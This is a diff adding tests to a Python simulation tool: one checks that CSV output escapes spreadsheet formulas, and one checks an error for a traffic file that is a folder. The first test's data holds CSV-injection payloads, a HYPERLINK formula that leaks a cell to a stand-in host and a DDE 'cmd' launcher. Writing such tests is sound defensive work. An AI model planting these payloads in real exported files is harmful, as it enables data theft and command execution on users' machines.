@@ -3,6 +3,8 @@ were not tested with. docs/robustness.md says what is guaranteed."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -161,3 +163,45 @@ def test_set_overrides_rewritten_in_full_keep_numeric_looking_names_as_text() ->
     text = 'name: "1e3"\ntags: [a]\n'
     written = apply_set_overrides(text, ["tags=[b, c]"])
     assert parse_yaml_text(written).data == {"name": "1e3", "tags": ["b", "c"]}
+
+
+SCENARIO = """\
+name: {name}
+simulation: {{duration: 3s, warmup: 0.5s}}
+traffic:
+  browse: {{entry: app, rate: 20/s}}
+tiers:
+  app: {{concurrency: 2, service_time: {{dist: exponential, mean: 5ms}}}}
+slos:
+  - {{class: browse, p99: 500ms}}
+"""
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"y")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_cells_from_data_are_never_spreadsheet_formulas(tmp_path: Path, formula: str) -> None:
+    scenario = tmp_path / "shop.yaml"
+    scenario.write_text(SCENARIO.format(name=json.dumps(formula)))
+    code, out, err = invoke("run", str(scenario), "--format", "csv")
+    assert code == 0, err
+    rows = list(csv.reader(io.StringIO(out)))
+    assert ["run", f"'{formula}", "passed", "true"] in rows
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t")), row
+            if cell.startswith("-"):
+                float(cell)  # a negative figure, not text
+
+
+@pytest.mark.parametrize("key", ["arrivals: {trace: adir}", "profile: {file: adir}"])
+def test_a_traffic_file_that_is_a_folder_is_named_once(tmp_path: Path, key: str) -> None:
+    (tmp_path / "adir").mkdir()
+    scenario = tmp_path / "s.yaml"
+    scenario.write_text(
+        SCENARIO.format(name="s")
+        .replace("rate: 20/s", key)
+        .replace("slos:\n  - {class: browse, p99: 500ms}\n", "")
+    )
+    code, _, err = invoke("validate", str(scenario))
+    assert code == 2 and "it is a folder" in err and "file file" not in err
